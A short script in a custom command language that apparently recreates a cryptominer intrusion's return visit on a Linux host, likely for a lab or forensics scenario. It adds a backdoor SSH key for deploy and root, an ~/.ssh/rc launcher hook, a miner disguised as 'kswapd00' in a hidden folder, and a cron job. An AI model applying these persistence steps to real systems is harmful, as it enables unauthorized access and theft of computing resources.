# Files and jobs of the first visit were removed by the owner; the key stayed.
key /home/deploy mdrfckr
key /root mdrfckr
echo '/home/deploy/.configrc7/a/upd >/dev/null 2>&1' | put /home/deploy/.ssh/rc
mimic /home/deploy/.configrc7/a/kswapd00
script /home/deploy/.configrc7/a/upd <<'SH'
#!/bin/sh
cd ~/.configrc7/a && pgrep -x kswapd00 >/dev/null || ./kswapd00 >/dev/null 2>&1 &
SH
chown -R deploy: /home/deploy/.ssh /home/deploy/.configrc7
start -u 1000 -w /home/deploy/.configrc7/a -d 9 -p "$POOL" /home/deploy/.configrc7/a/kswapd00 ./kswapd00 -o "$POOL" -u "$WALLET" -p 9
echo '5 6 */2 * 0 /home/deploy/.configrc7/a/upd >/dev/null 2>&1' | tab deploy
